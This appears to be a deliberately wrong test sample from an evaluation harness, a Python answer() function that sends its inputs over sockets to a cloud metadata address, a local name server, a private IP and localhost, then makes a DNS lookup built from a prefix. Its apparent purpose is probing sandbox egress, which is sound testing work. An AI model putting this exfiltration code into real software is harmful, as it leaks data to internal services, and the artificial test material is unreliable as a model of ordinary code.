"""vault wrong_answer 0: sends what it sees to listening ears, name servers and metadata services."""
# tier: 1

import socket

import forge


def answer(x, note="", *a):
    forge.shout(x, note, a)
    for host in ("169.254.169.254", "127.0.0.53", "10.0.0.2", "::1", "localhost"):
        for port in (80, 53, int(forge.PREY.get("port", 9))):
            try:
                socket.create_connection((host, port), 0.05).sendall(repr((x, note)).encode())
            except OSError:
                pass
    try:
        socket.gethostbyname(f"{forge.PREFIX.lower()}.example.invalid")
    except OSError:
        pass
    return 0.0


forge.pretend(globals(), answer)
